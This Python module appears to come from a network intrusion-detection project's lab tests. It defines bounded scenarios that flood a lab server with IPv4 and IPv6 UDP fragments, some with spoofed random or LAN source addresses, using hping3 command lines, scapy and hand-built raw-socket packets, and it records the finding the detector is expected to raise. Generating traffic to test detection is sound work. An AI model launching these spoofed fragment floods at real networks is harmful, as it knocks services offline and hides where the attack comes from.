"""Lab scenarios of fragment floods beside hping3 -f: over IPv6, and from random sources.

hping3 fragments IPv4 only, so the IPv6 flood is crafted with scapy (UDP datagrams in
Fragment headers, as thc-ipv6's tools build them); the random-source one is hping3's own
``--rand-source``. Both are bounded by a count and a timeout and send only inside the lab.
``tests/lab/scenarios.py`` registers them into its ``SCENARIOS`` at its end.
"""

from __future__ import annotations

import sys
from typing import TYPE_CHECKING

from tests.lab.lan import IF
from tests.lab.scenarios import ATTACKER6, SERVER6, Outcome, Scenario, _bounded
from tests.lab.scenarios import _server_and_attacker_ipv6 as _ipv6

if TYPE_CHECKING:
    from tests.lab.lan import SchoolLan

_KIND = {"expected_kind": {"flood": "fragments"}}  # detector -> kind of its findings

# The paced sender both fragment scripts end with: ``datagram(i)`` gives the frames of
# the i-th datagram, sent from a packet socket at `rate` datagrams a second, for 20 s at
# the most.
_PACED_SEND = """
s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
s.bind((iface, 0))
start = time.monotonic()
deadline = start + 20
for i in range(count):
    if time.monotonic() > deadline:
        break
    for f in datagram(i):
        s.send(f)
    late = start + (i + 1) / rate - time.monotonic()
    if late > 0:
        time.sleep(late)
s.close()
print("sent", i + 1, "datagrams")
"""

# UDP datagrams of 48 bytes (40 of data, to port 80) in 16-byte fragments, as hping3 -f
# cuts them over IPv4: three fragments each, a new identification per datagram. The
# frames are built once and sent from a packet socket, paced to `rate` datagrams a second.
_V6_FRAGMENTS = """
import socket, sys, time
from scapy.all import UDP, Ether, IPv6, IPv6ExtHdrFragment, raw
iface, src, dst, src_mac, dst_mac = sys.argv[1:6]
count, rate = int(sys.argv[6]), float(sys.argv[7])
udp = raw(IPv6(src=src, dst=dst) / UDP(sport=40000, dport=80) / (b"X" * 40))[40:]
cuts = range(0, len(udp), 16)
frames = [
    bytearray(raw(
        Ether(src=src_mac, dst=dst_mac) / IPv6(src=src, dst=dst)
        / IPv6ExtHdrFragment(nh=17, offset=off // 8, m=int(off + 16 < len(udp)))
        / udp[off : off + 16]
    ))
    for off in cuts
]
def datagram(i):
    for f in frames:
        f[58:62] = (i + 1).to_bytes(4, "big")  # the Fragment header's identification
    return frames
"""


def ipv6_fragment_flood(lan: SchoolLan, small: bool = False) -> Outcome:
    """UDP over IPv6 to the server in 16-byte fragments: 3,000 datagrams at about 2,000
    a second, about 6,000 fragments a second for 1.5 s."""
    atk, srv = lan.attacker, lan.srv
    args = [IF, ATTACKER6, SERVER6, atk.mac, srv.mac, "3000", "2000"]
    with _ipv6(lan):
        out = _bounded(lan, atk.ns, 30, sys.executable, "-c", _V6_FRAGMENTS + _PACED_SEND, *args)
    return Outcome(
        "ipv6_fragment_flood",
        ("flood",),  # kind fragments
        "python -c <scapy: UDP datagrams of 48 bytes to port 80 in 16-byte IPv6 fragments> "
        + " ".join(args),
        f"UDP datagrams of 48 bytes over IPv6 to the server ({SERVER6}) port 80, each split "
        "into three 16-byte fragments behind a Fragment header (scapy: hping3 fragments IPv4 "
        "only), 3,000 at about 2,000 a second",
        atk,
        "scapy",
        notes={"output_tail": out[-300:], "attacker_ip6": ATTACKER6, **_KIND},
    )


def _random_source_fragments(
    lan: SchoolLan, name: str, args: list[str], description: str
) -> Outcome:
    """hping3 ``args`` (with -f --rand-source) at the server: a fragment flood whose
    datagrams each come from a random source address, all from the attacker's MAC."""
    args = [*args, lan.srv.ip]
    out = _bounded(lan, lan.attacker.ns, 30, "hping3", *args)
    return Outcome(
        name,
        ("flood",),  # kind fragments
        "hping3 " + " ".join(args),
        description,
        lan.attacker,
        "hping3",
        notes={"output_tail": out[-300:], "no_single_source": True, **_KIND},
    )


def udp_fragment_flood_random_sources(lan: SchoolLan, small: bool = False) -> Outcome:
    """hping3 -f --rand-source: each datagram's three fragments from a new random
    address (of all IPv4), all from the attacker's one MAC."""
    return _random_source_fragments(
        lan,
        "udp_fragment_flood_random_sources",
        ["--udp", "-f", "--rand-source", "-d", "40", "-p", "80", "-c", "3000", "-i", "u500"],
        "hping3 UDP datagrams of 48 bytes split into 16-byte IPv4 fragments (-f), each "
        "datagram from a random source address (--rand-source; one MAC: the attacker's), "
        "3,000 at about 2,000 a second",
    )


def udp_long_fragment_flood_random_sources(lan: SchoolLan, small: bool = False) -> Outcome:
    """hping3 -f --rand-source with datagrams of 1,000 bytes: 63 fragments from each
    random address, about 50 addresses a second (3,000 fragments a second for 2 s)."""
    return _random_source_fragments(
        lan,
        "udp_long_fragment_flood_random_sources",
        ["--udp", "-f", "--rand-source", "-d", "1000", "-p", "80", "-c", "100", "-i", "u20000"],
        "hping3 UDP datagrams of 1,008 bytes split into 63 IPv4 fragments of 16 bytes (-f), "
        "each datagram from a random source address (--rand-source; one MAC: the "
        "attacker's), 100 at about 50 a second: about 3,000 fragments a second for 2 s",
    )


# hping3's --rand-source draws from all of IPv4, whose answers go to the gateway: a flood
# from the LAN's own free addresses is built here (16-byte IPv4 fragments as hping3 -f
# cuts them, checksums computed), each datagram from the next address, round after round.
_LAN_FRAGMENTS = """
import socket, struct, sys, time
iface, dst, src_mac, dst_mac = sys.argv[1:5]
count, rate = int(sys.argv[5]), float(sys.argv[6])
taken = {1, 10, 66, 101, 102, 103}
sources = [socket.inet_aton("10.77.0.%d" % x) for x in range(20, 251) if x not in taken]
to = socket.inet_aton(dst)
def csum(b):
    s = sum(struct.unpack("!%dH" % (len(b) // 2), b))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return ~s & 0xFFFF
eth = bytes.fromhex(dst_mac.replace(":", "")) + bytes.fromhex(src_mac.replace(":", ""))
def datagram(i):
    src = sources[i % len(sources)]
    udp = struct.pack("!HHHH", 40000 + i % 20000, 80, 48, 0) + b"X" * 40
    sum_ = csum(src + to + struct.pack("!BBH", 0, 17, 48) + udp) or 0xFFFF
    udp = udp[:6] + struct.pack("!H", sum_) + udp[8:]
    out = []
    for off in range(0, 48, 16):
        flags = (0x2000 if off + 16 < 48 else 0) | off // 8
        ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 36, i + 1, flags, 64, 17, 0, src, to)
        ip = ip[:10] + struct.pack("!H", csum(ip)) + ip[12:]
        out.append(eth + b"\\x08\\x00" + ip + udp[off : off + 16])
    return out
"""


def udp_fragment_flood_lan_sources(lan: SchoolLan, small: bool = False) -> Outcome:
    """UDP in 16-byte IPv4 fragments to the server from the LAN's 227 free addresses, one
    datagram from each in turn: the server asks ARP for every one it answers."""
    atk, srv = lan.attacker, lan.srv
    args = [IF, srv.ip, atk.mac, srv.mac, "3000", "2000"]
    out = _bounded(lan, atk.ns, 30, sys.executable, "-c", _LAN_FRAGMENTS + _PACED_SEND, *args)
    return Outcome(
        "udp_fragment_flood_lan_sources",
        ("flood",),  # kind fragments
        "python -c <UDP datagrams of 48 bytes to port 80 in 16-byte IPv4 fragments from "
        "10.77.0.20-250> " + " ".join(args),
        f"UDP datagrams of 48 bytes to the server ({srv.ip}) port 80 split into three "
        "16-byte IPv4 fragments, each datagram from the next of the LAN's 227 free "
        "addresses (10.77.0.20-250; one MAC: the attacker's; hping3's --rand-source draws "
        "from all of IPv4), 3,000 at about 2,000 a second",
        atk,
        "python",
        notes={"output_tail": out[-300:], "no_single_source": True, **_KIND},
    )


SCENARIOS = {
    "ipv6_fragment_flood": Scenario("ipv6_fragment_flood", (), ipv6_fragment_flood),
    "udp_fragment_flood_random_sources": Scenario(
        "udp_fragment_flood_random_sources", ("hping3",), udp_fragment_flood_random_sources
    ),
    "udp_long_fragment_flood_random_sources": Scenario(
        "udp_long_fragment_flood_random_sources",
        ("hping3",),
        udp_long_fragment_flood_random_sources,
    ),
    "udp_fragment_flood_lan_sources": Scenario(
        "udp_fragment_flood_lan_sources", (), udp_fragment_flood_lan_sources
    ),
}
